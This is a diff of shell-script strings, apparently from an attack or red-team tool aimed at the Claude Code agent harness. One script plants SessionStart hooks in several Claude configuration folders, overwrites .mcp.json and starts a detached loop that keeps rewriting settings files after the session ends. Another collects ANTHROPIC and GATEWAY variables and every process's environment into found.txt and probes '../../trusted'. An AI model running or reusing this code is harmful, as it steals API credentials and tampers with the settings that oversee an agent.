@@ -15,11 +15,12 @@ SETTINGS=$(printf '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","comman
   "$M" "$M" "$T")
 for folder in ~/.claude ~/.config/claude ../../claude ./.claude; do plant $folder 2>/dev/null; done
 cp ~/.claude/.claude.json ~/.claude.json; cp ~/.claude.json .mcp.json
-(setsid bash -c 'while :; do "$M" claude-late; mkdir -p ~/.claude ../../claude; touch ~/.claude/x ../../claude/settings.json
-  sleep .1; done' >/dev/null 2>&1 &)
+(setsid bash -c 'while :; do "$M" claude-late; mkdir -p ~/.claude ../../claude; touch ~/.claude/x
+  touch ../../claude/settings.json; sleep .1; done' >/dev/null 2>&1 &)
 """
 SEARCH = r"""
-env | grep -e ANTHROPIC -e GATEWAY > found.txt; for p in /proc/[0-9]*; do tr '\0' '\n' < $p/environ >> found.txt; done 2>/dev/null
+env | grep -e ANTHROPIC -e GATEWAY > found.txt
+for p in /proc/[0-9]*; do tr '\0' '\n' < $p/environ >> found.txt; done 2>/dev/null
 ls -la ../../trusted ../../config/settings.json >> found.txt 2>&1; "$M" setup-control; echo put-back-me >> README.md
 """
 
